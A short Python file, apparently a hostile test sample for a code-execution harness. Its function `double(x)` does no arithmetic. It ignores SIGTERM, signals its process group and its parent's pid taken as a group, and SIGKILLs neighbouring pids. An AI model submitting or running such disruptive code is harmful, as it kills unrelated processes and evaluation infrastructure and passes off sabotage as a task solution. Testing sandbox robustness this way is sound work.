"""Kills its process group and session, and its siblings by neighbouring pids."""

import contextlib
import os
import signal


def double(x):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for group in (0, os.getpgid(0), os.getppid()):
        with contextlib.suppress(OSError):
            os.killpg(group, signal.SIGTERM)
    for pid in range(os.getpid() - 3, os.getpid() + 3):
        if pid > 1 and pid != os.getpid():
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
    return 0
